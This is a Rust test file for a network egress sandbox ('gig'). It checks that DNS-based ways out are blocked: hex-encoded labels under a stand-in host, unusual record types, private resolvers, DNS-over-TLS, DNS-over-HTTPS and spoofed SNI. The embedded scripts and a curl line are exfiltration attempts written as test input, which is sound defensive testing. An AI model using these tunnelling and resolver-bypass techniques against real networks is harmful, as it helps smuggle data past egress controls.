//! DNS as a way out: labels, record types, resolvers of the program's own choice.

use std::net::SocketAddr;

use gig_policy::DenyReason;
use gig_tests::lab::{Finished, Lab, Way, denial::Refusal, http_origin::greet};

const ALLOWED: &str = "api.example.com";

#[test]
fn labels_under_a_denied_name_are_not_looked_up() {
    let lab = Lab::new();
    let script = "for n in range(20): print(dns(f'{n:040x}.tunnel.evil.example.net'))";
    let run = lab.gig().allow(ALLOWED).wire(script);
    Refusal::new(DenyReason::HostNotAllowed)
        .times(20)
        .client(|run| run.text() == "(3, 0)\n".repeat(20))
        .unseen_by(&lab.resolver)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn labels_under_an_allowed_wildcard_are_not_looked_up_before_a_connection() {
    let lab = Lab::new();
    let script = "for n in range(20): print(dns(f'{n:040x}.data.example.com'))";
    let run = lab.gig().allow("*.data.example.com").wire(script);
    // Nothing is refused: the program has its addresses, and nobody outside has heard a label.
    Refusal::none()
        .client(|run| run.text() == "(0, 1)\n".repeat(20))
        .unseen_by(&lab.resolver)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn other_record_types_carry_nothing() {
    let lab = Lab::new();
    let script = "for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 255, 65280): \
        print(kind, dns('evil.example.net', kind), dns('api.example.com', kind))";
    let run = lab.gig().allow(ALLOWED).wire(script);
    let nothing = |line: &str| line.ends_with("(3, 0) (0, 0)") || line == "255 (5, 0) (5, 0)";
    Refusal::new(DenyReason::HostNotAllowed)
        // What asks for everything at once is of no protocol that there is.
        .times(13)
        .client(|run| run.text().lines().count() == 14 && run.text().lines().all(nothing))
        .unseen_by(&lab.resolver)
        .nothing_leaves()
        .check(&run);
}

fn own_resolver(tcp: &str) -> (Lab, Finished) {
    let lab = Lab::new();
    let script =
        format!("attempt(lambda: dns('secret.evil.example.net', server='8.8.8.8', tcp={tcp}))");
    let run = lab.gig().allow(ALLOWED).wire(&script);
    (lab, run)
}

#[test]
fn resolver_of_its_own_over_udp_is_answered_by_gig() {
    let (_lab, run) = own_resolver("False");
    Refusal::new(DenyReason::HostNotAllowed)
        .of("secret.evil.example.net")
        .client_says("(3, 0)")
        .nothing_leaves()
        .check(&run);
}

#[test]
fn resolver_of_its_own_over_tcp_is_answered_by_gig() {
    let (_lab, run) = own_resolver("True");
    Refusal::new(DenyReason::HostNotAllowed)
        .of("secret.evil.example.net")
        .client_says("(3, 0)")
        .nothing_leaves()
        .check(&run);
}

#[test]
fn dns_over_tls_to_a_public_resolver_is_refused() {
    let lab = Lab::new();
    let at: SocketAddr = "1.1.1.1:853".parse().expect("an address");
    let origin = lab.tls(at, &["1.1.1.1", "one.one.one.one"], &[], |conversation| {
        conversation.drain()
    });
    let script = "def go():\n s = tls('1.1.1.1', 853, sni='one.one.one.one'); \
        s.sendall(b'\\x00\\x05query'); return ending(s)\nattempt(go)";
    let run = lab.gig().allow(ALLOWED).wire(script);
    Refusal::new(DenyReason::HostNotAllowed)
        .of("one.one.one.one")
        .client_says("got: closed after b'HTTP/1.1 400")
        .unseen_by(&origin)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn dns_over_https_to_a_public_resolver_is_refused() {
    let lab = Lab::new();
    let at: SocketAddr = "1.1.1.1:443".parse().expect("an address");
    let origin = lab.tls(at, &["1.1.1.1"], &[], |conversation| conversation.drain());
    let url = "https://1.1.1.1/dns-query?name=secret.evil.example.net&type=TXT";
    for way in Way::BOTH {
        let run = lab
            .gig()
            .allow(ALLOWED)
            .going(way)
            .run(["curl", "-sS", "-k", "-m", "60", url]);
        Refusal::new(DenyReason::IpNotAllowed)
            .client(|run| match way {
                Way::ByProxy => run.error_text().contains("response 403"),
                Way::Straight => run.text().contains("ip_not_allowed"),
            })
            .unseen_by(&origin)
            .nothing_leaves()
            .check(&run);
    }
}

#[test]
fn synthetic_addresses_are_worthless_to_another_name() {
    let lab = Lab::new();
    let _origin = lab.https(ALLOWED, greet);
    let other = lab.https("evil.example.net", greet);
    // The address of the allowed name, used with the name of a denied one.
    let script = "a = socket.gethostbyname('api.example.com')\n\
        if a.startswith('11.'): a = '11.0.1.3'\n\
        def go():\n s = tls(a, sni='evil.example.net'); s.sendall(get('/', 'evil.example.net')); return ending(s)\n\
        attempt(go)";
    let run = lab
        .gig()
        .allow(ALLOWED)
        .wire(&script.replace("11.0.1.3", &other.raw().address().ip().to_string()));
    Refusal::new(DenyReason::NamesDisagree)
        .client_says("refused: ConnectionResetError")
        .unseen_by(&other)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn unknown_synthetic_addresses_lead_nowhere() {
    let lab = Lab::new();
    let canary = lab.tcp("198.18.7.7:80".parse().expect("an address"), |c| c.drain());
    let script = "def go():\n s = connect('198.18.7.7', 80); s.sendall(get('/', '198.18.7.7')); return until(s, '\\r\\n\\r\\n')\nattempt(go)";
    let run = lab.gig().allow(ALLOWED).wire(script);
    Refusal::new(DenyReason::IpNotAllowed)
        .client_says("got: HTTP/1.1 403")
        .unseen_by(&canary)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn a_name_is_not_asked_upstream_for_a_denied_port() {
    let lab = Lab::new();
    let _address = lab.address_for(ALLOWED);
    let run = lab.gig().allow("api.example.com:443").wire(
        "def go():\n s = connect('api.example.com', 9999); s.sendall(b'x\\n'); return ending(s)\nattempt(go)",
    );
    Refusal::new(DenyReason::PortNotAllowed)
        .of(ALLOWED)
        .client_says("got: ConnectionResetError after b''")
        .unseen_by(&lab.resolver)
        .nothing_leaves()
        .check(&run);
}
